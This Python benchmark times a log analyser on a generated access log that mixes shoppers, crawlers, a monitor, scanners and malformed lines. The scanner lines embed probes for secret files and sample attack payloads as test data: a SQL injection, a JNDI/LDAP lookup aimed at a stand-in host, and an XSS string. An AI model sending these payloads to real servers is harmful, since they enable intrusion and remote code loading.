"""How many lines of an access log a second go through the rules: parsed, examined, judged, as `analyze_log` does it.

The log is made here, the same each time, with the mix that real ones show: people and the files their pages embed,
crawlers, a monitor, scanners (a tenth), and a few lines that are no HTTP or in a shape of their own.
"""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

from ip_tracking.replay.engine import Replay

LINES = 100_000
ROUNDS = 3
BEGAN = datetime(2025, 10, 9, tzinfo=UTC)
LINES_PER_S = 10  # of the log's own time

BROWSERS = [
    f"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 Safari/537.36"
    for version in range(100, 140)
]
CRAWLER = "Mozilla/5.0 (compatible; ExampleBot/2.1; +https://bot.example/about)"
PROBES = ("/.env", "/wp-login.php", "/phpmyadmin/index.php", "/.git/config", "/cgi-bin/test-cgi", "/admin.php")
PAYLOADS = (
    "id=1%27%20union%20select%201,2,3--",
    "x=${jndi:ldap://198.51.100.7/a}",
    "q=%3Cscript%3Ealert(1)%3C/script%3E",
)


def measure() -> dict[str, float]:
    """Returns {"lines_per_s", "spread"}: the median of the rounds, and (largest - smallest) / median."""
    log = list(_log())
    speeds = [_speed(log) for _ in range(ROUNDS)]
    middle = statistics.median(speeds)
    return {"lines_per_s": round(middle), "spread": round((max(speeds) - min(speeds)) / middle, 3)}


def _speed(log: list[str]) -> float:
    began = time.perf_counter()
    replay = Replay()
    replay.read(log, "access.log")
    suspects = replay.suspects()
    seconds = time.perf_counter() - began
    assert suspects, "a log with scanners in it, and nobody found"
    return len(log) / seconds


def _log() -> Iterator[str]:
    chance = random.Random(7)
    kinds = (_page, _embedded, _crawled, _monitored, _scanned, _odd)
    weights = (30, 35, 18, 5, 10, 2)
    for number, kind in enumerate(chance.choices(kinds, weights, k=LINES)):
        at = BEGAN + timedelta(seconds=number // LINES_PER_S)
        yield kind(chance, f"{at:%d/%b/%Y:%H:%M:%S +0000}")


def _line(address: str, at: str, request: str, status: int, referer: str = "-", agent: str = "-") -> str:
    return f'{address} - - [{at}] "{request}" {status} 512 "{referer}" "{agent}"\n'


def _page(chance: random.Random, at: str) -> str:
    target = f"/products/{chance.randrange(5_000)}/?page={chance.randrange(9)}&sort=price"
    return _line(_person(chance), at, f"GET {target} HTTP/2.0", 200, "https://shop.example/", chance.choice(BROWSERS))


def _embedded(chance: random.Random, at: str) -> str:
    target = f"/static/{chance.randrange(300)}.{chance.choice(('js', 'css', 'webp'))}"
    status = chance.choice((200, 304, 304, 404))
    return _line(_person(chance), at, f"GET {target} HTTP/2.0", status, "https://shop.example/", BROWSERS[0])


def _crawled(chance: random.Random, at: str) -> str:
    target = f"/products/{chance.randrange(50_000)}/"
    return _line(
        f"192.0.2.{chance.randrange(8)}", at, f"GET {target} HTTP/1.1", chance.choice((200, 404)), agent=CRAWLER
    )


def _monitored(chance: random.Random, at: str) -> str:
    return _line("192.0.2.200", at, "HEAD /healthz HTTP/1.0", 200, agent="monitor/1.0")


def _scanned(chance: random.Random, at: str) -> str:
    probe = chance.choice(PROBES)
    target = chance.choice((probe, f"/{chance.randrange(9_999)}{probe}", f"/search?{chance.choice(PAYLOADS)}"))
    return _line(f"203.0.113.{chance.randrange(50)}", at, f"GET {target} HTTP/1.1", 404, agent=chance.choice(BROWSERS))


def _odd(chance: random.Random, at: str) -> str:
    shapes: tuple[Callable[[str], str], ...] = (
        lambda address: _line(address, at, r"\x16\x03\x01\x02\x00", 400),
        lambda address: _line(address, at, "-", 408),
        lambda address: f"shop.example:443 {_line(address, at, 'GET / HTTP/1.1', 200)}",
        lambda address: _line(address, at, r"GET /?q=\"a\" HTTP/1.1", 200),
    )
    return chance.choice(shapes)(_person(chance))


def _person(chance: random.Random) -> str:
    if chance.random() < 0.2:
        return f"2001:db8:{chance.randrange(64):x}:{chance.randrange(64):x}::{chance.randrange(1, 9)}"
    return f"198.51.100.{chance.randrange(250)}"
